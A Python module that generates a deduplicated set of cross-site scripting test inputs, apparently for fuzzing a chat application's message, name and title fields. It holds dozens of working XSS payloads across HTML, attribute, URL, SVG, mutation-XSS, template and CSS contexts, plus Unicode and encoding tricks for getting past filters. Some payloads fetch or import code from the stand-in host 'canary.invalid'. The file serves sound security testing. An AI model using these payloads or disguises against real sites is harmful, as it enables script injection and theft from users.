"""Code that wants to be run, as people who attack pages write it: made from a grammar, the same at every run.

Owns: contexts to break out of, what is to be run, disguises. Does not know: any page, what the relay makes of a text.

``fire(1)`` trips a wire, ``alert(1)`` opens a dialog, and whatever is loaded is loaded from ``CANARY``. Where ``§`` stands is what is to be
run, where ``¤`` stands the canary's address.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import cycle

__all__ = ["CANARY", "names", "payloads", "titles"]

CANARY = "canary.invalid"
TEXT_MAX, TITLE_MAX, NAME_MAX = 500, 200, 32

FIRES = (
    "fire(1)",
    "alert(1)",
    "top.fire(1)",
    "self['fi'+'re'](1)",
    "fire`1`",
    f"import('//{CANARY}/m')",
    f"fetch('//{CANARY}/f')",
    f"new Image().src='//{CANARY}/i'",
    "eval(atob('ZmlyZSgxKQ=='))",
    "setTimeout('fire(1)')",
    "Function('fire(1)')()",
    f"location='//{CANARY}/l'",
    "onerror=fire;throw 1",
    "[1].find(fire)",
)

ELEMENTS = (
    "<script>§</script>",
    "<script src=//¤/x.js></script>",
    "<script type=module>§</script>",
    "<script>\n<!--\n§\n</script>",
    "<ScRiPt >§</sCrIpT >",
    "<script/x>§</script\t>",
    "<img src=x onerror=§>",
    '<img src="x" onerror="§">',
    "<img/src=x/onerror=§>",
    "<img src=x:x\nonerror\n=\n§>",
    "<img src=//¤/i.png>",
    "<img srcset='//¤/s.png 1x'>",
    "<image src=x onerror=§>",
    "<input type=image src=x onerror=§>",
    "<body onload=§>",
    "<iframe src=javascript:§></iframe>",
    "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.§&lt;/script&gt;></iframe>",
    "<iframe src=//¤/f></iframe>",
    "<frameset onload=§>",
    "<object data=javascript:§></object>",
    "<object data=//¤/o></object>",
    "<embed src=//¤/e>",
    "<link rel=stylesheet href=//¤/l.css>",
    "<link rel=preload as=script href=//¤/p.js>",
    "<meta http-equiv=refresh content='0;url=//¤/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:§'>",
    "<base href=//¤/>",
    "<form action=javascript:§><button autofocus onfocus=§>x</button></form>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§></textarea>",
    "<details open ontoggle=§>x</details>",
    "<marquee onstart=§>x</marquee>",
    "<video src=x onerror=§></video>",
    "<video><source onerror=§></video>",
    "<audio src=//¤/a onloadstart=§>",
    "<style>*{animation:x}@keyframes x{}</style><b style=animation-name:x onanimationstart=§>x</b>",
    "<b onpointerrawupdate=§ style='position:fixed;inset:0'>x</b>",
    "<template shadowrootmode=open><img src=x onerror=§></template>",
    "<dialog open onclose=§><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=§>x</b>",
    "<isindex type=image src=x onerror=§>",
    "<x onclick=§ tabindex=1 onfocus=§ autofocus>x</x>",
    "<chatsync-chat room=x server=//¤/></chatsync-chat>",
    "<portal src=//¤/p onload=§>",
    "<xss contenteditable autofocus onfocus=§>",
)
ATTRIBUTES = (
    '"><img src=x onerror=§>',
    "'><img src=x onerror=§>",
    '" onmouseover=§ x="',
    "' autofocus onfocus=§ x='",
    '" autofocus onfocus=§ tabindex=0 "',
    "` onmouseover=§ x=`",
    "x onmouseover=§",
    '\\"><svg onload=§>',
    "</bdi></div></template><img src=x onerror=§>",
    "</textarea><img src=x onerror=§>",
    "</title></style></script></noscript><svg onload=§>",
    "--><img src=x onerror=§>",
    "]]><img src=x onerror=§>",
    '"></time><svg onload=§><time datetime="',
    "&quot;><img src=x onerror=§>",
)
ADDRESSES = (
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    "java\nscript:§",
    " javascript:§",
    "java&#x09;script:§",
    "java&#10;script:§",
    "&#106;avascript:§",
    "&#x6A;&#x61;vascript&colon;§",
    "javascript&colon;§",
    "javascript&#0000058;§",
    "javascript://%0a§",
    "javascript:/*https://example.org*/§",
    "https://example.org/javascript:§",
    "http://javascript:§",
    "<a href=javascript:§>x</a>",
    "<a href='java\nscript:§'>x</a>",
    "<a href=&#x6A;avascript:§>x</a>",
    "<area href=javascript:§>",
    "[x](javascript:§)",
    "![x](javascript:§)",
    "[x](https://example.org/\"onmouseover='§')",
    "vbscript:§",
    "feed:javascript:§",
    "view-source:javascript:§",
    "jar:https://example.org!/javascript:§",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=§>",
    "data:text/javascript,§",
    "<a href=data:text/html,<script>§</script>>x</a>",
    "blob:https://example.org/§",
    'https://example.org/"onmouseover="§',
    "https://example.org/'onmouseover='§",
    "https://example.org/><img/src=x/onerror=§>",
    "https://example.org/`${§}`",
    "https://example.org#<svg/onload=§>",
    "https://x@¤/",
    "http://[::1]/<script>§</script>",
    "https://ex\u200bample.org/javascript:§",
    "@<img src=x onerror=§>",
    "@x\"onmouseover='§' @javascript:§",
)
FOREIGN = (
    "<svg onload=§>",
    "<svg/onload=§//",
    "<svg><script>§</script></svg>",
    "<svg><script href=data:,§ />",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:§><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:§ />",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=x onerror=§ /></svg>#x' />",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><image href=//¤/i.svg onerror=§ />",
    "<svg><style>@import '//¤/s.css';</style></svg>",
    "<svg><discard onbegin=§ />",
    "<math href=javascript:§>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
    "<math><mi//xlink:href='data:text/html,<script>§</script>'>x",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=§>'>",
    "<svg></p><style><a id='</style><img src=x onerror=§>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=§&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=§ src>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=§>'>",
    "<svg><desc><style><!--</style><img src=x onerror=§>--></desc></svg>",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=§>'></xmp>",
    "<title><img title='</title><img src=x onerror=§>'>",
    "<textarea><img title='</textarea><img src=x onerror=§>'>",
    "<iframe><img title='</iframe><img src=x onerror=§>'>",
    "<noembed><img title='</noembed><img src=x onerror=§>'>",
    "<plaintext><img src=x onerror=§>",
    "<a><table><a><img src=x onerror=§>",
    "<![CDATA[<img src=x onerror=§>]]>",
    "<!--<img src=x onerror=§>--!><img src=x onerror=§>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>§</script>",
    "<%<img src=x onerror=§>%>",
    "<<script>§//<</script>",
    "<img src=x title='`><img src=x onerror=§>`'>",
)
TEMPLATES = (
    "${§}",
    "`${§}`",
    "`-§-`",
    "{{§}}",
    "{{constructor.constructor('§')()}}",
    "#{§}",
    "<%= § %>",
    "[[${§}]]",
    "{% § %}",
    "<!--?lit$123456789$--><img src=x onerror=§>",
    "<?lit$123456789$?><img src=x onerror=§>",
    "<!--?lit$--><!--lit-part--><img src=x onerror=§><!--/lit-part-->",
    "<!--lit-node 0--><img src=x onerror=§>",
    "<b lit$123456789$ @click=${§}>x</b>",
    "<b .innerHTML=<img/src=x/onerror=§>>x</b>",
    "${unsafeHTML('<img src=x onerror=§>')}",
    "html`<img src=x onerror=${§}>`",
    '{"_$litType$":1,"strings":["<img src=x onerror=§>"],"values":[]}',
    '{"_$litDirective$":{},"values":["<img src=x onerror=§>"]}',
    '{"type":"html","html":"<img src=x onerror=§>"}',
)
STYLES = (
    "<style>*{background:url(//¤/b.png)}</style>",
    "<style>@import url(//¤/i.css);</style>",
    "</style><img src=x onerror=§>",
    "}*{background:url(//¤/b.png)}",
    "<b style='background:url(//¤/b.png)'>x</b>",
    "<b style=width:expression(§)>x</b>",
    "<b style='-moz-binding:url(//¤/b.xml#x)'>x</b>",
    "<b style='behavior:url(//¤/b.htc)'>x</b>",
    "background:url(javascript:§)",
    "red;background:url(//¤/b.png)",
    "<link rel=stylesheet href='data:text/css,*{background:url(//¤/d.png)}'>",
)
SCRIPTS = (
    "</script><script>§</script>",
    "</script><svg onload=§>",
    '"}],"x":"</script><script>§</script>',
    "\\u003cscript\\u003e§\\u003c/script\\u003e",
    "\\x3cscript\\x3e§\\x3c/script\\x3e",
    "\\074script\\076§",
    "%3Cscript%3E§%3C/script%3E",
    "&lt;script&gt;§&lt;/script&gt;",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "'-§-'",
    '"-§-"',
    "\\'-§//",
    '\\"-§//',
    "');§//",
    '"]});§//',
    "*/§/*",
    "\n§\n//",
    "//\u2028§",
    "<!--\n§\n-->",
    "__proto__[x]=§",
    '{"__proto__":{"innerHTML":"<img src=x onerror=§>"}}',
    "constructor.prototype.innerHTML=<svg/onload=§>",
    '=HYPERLINK("javascript:§")',
)
GRAMMAR = {
    "element": ELEMENTS,
    "attribute": ATTRIBUTES,
    "address": ADDRESSES,
    "foreign": FOREIGN,
    "mutation": MUTATIONS,
    "template": TEMPLATES,
    "style": STYLES,
    "script": SCRIPTS,
}


def _wide(text: str) -> str:
    """In full-width letters, which some databases turn back."""
    return "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text)


DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: f"\u202e{text[::-1]}\u202c",  # reads the right way round, and is not
    lambda text: f"\u2067{text}\u2069",
    lambda text: text.replace("script", "scr\u200bipt").replace("on", "o\u200bn"),
    "\u200b".join,
    "\u00ad".join,
    lambda text: "\ufeff" + text.replace("<", "<\ufeff"),
    lambda text: text.replace("<", "<\u2060").replace("=", "\u2060="),
    _wide,
    lambda text: text.replace("<", "\u02c2").replace(">", "\u02c3"),
    lambda text: text.replace("s", "\u017f").replace("k", "\u212a"),  # other letters of the same upper case
    lambda text: text.replace("i", "\u0131"),
    lambda text: text.replace("<", "<\u0338"),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(one)};" for one in text)[:TEXT_MAX],
    lambda text: "".join(f"%{ord(one):02x}" for one in text if one.isascii()),
    lambda text: "".join(f"\\u{ord(one):04x}" for one in text if one.isascii())[:TEXT_MAX],
    str.swapcase,
    lambda text: "مرحبا " + text + " שלום",
    lambda text: "👩\u200d🔬" + text + "🇩🇪",
)
DISGUISED = (
    "<img src=x onerror=fire(1)>",
    "<script>fire(1)</script>",
    "<svg onload=fire(1)>",
    "https://example.org/ javascript:fire(1)",
)


def payloads() -> list[str]:
    """All texts, each once: every template with some of what is to be run, disguises, and long ones up to the limit."""
    made = dict.fromkeys(_grown())
    made |= dict.fromkeys(disguise(text) for text in DISGUISED for disguise in DISGUISES)
    made |= dict.fromkeys(_long())
    return [text for text in made if len(text) <= TEXT_MAX]


def _grown() -> Iterator[str]:
    fires = cycle(FIRES)
    for templates in GRAMMAR.values():
        for template in templates:
            for _ in range(2 if "§" in template else 1):
                yield _filled(template, next(fires))


def _filled(template: str, fire: str) -> str:
    return template.replace("§", fire).replace("¤", CANARY)


def _long() -> Iterator[str]:
    """At the limit of a text: after much, before much, much of it, and nested deep."""
    for text in DISGUISED:
        yield "x" * (TEXT_MAX - len(text)) + text
        yield text + "x" * (TEXT_MAX - len(text))
        yield (text * TEXT_MAX)[:TEXT_MAX]
    yield "<b>" * 160 + "<img/src/onerror=fire()>"
    yield "<" * (TEXT_MAX - 20) + "img src onerror=fire>"[:20]
    yield "https://example.org/" + "a" * 400 + '"onmouseover="fire(1)'
    yield "javascript:" + "/" * 480 + "\nfire()"


def names() -> list[str]:
    """Those that fit into a name."""
    short = ("fire()", "alert()", "fire``")
    made = [_filled(template, fire) for templates in GRAMMAR.values() for template in templates for fire in short]
    made += ["<script src=//canary.invalid>", "\u202e<svg onload=fire()>", "<b><i><u><s><img src onerror=", "${fire()}"]
    return [name for name in dict.fromkeys(made) if len(name) <= NAME_MAX and name.isprintable()]


def titles() -> list[str]:
    """Those that fit into a room's title, one of each context and a few more."""
    made = [_filled(template, "fire(1)") for templates in GRAMMAR.values() for template in templates[::6]]
    return [title for title in dict.fromkeys(made) if len(title) <= TITLE_MAX and title.isprintable()]
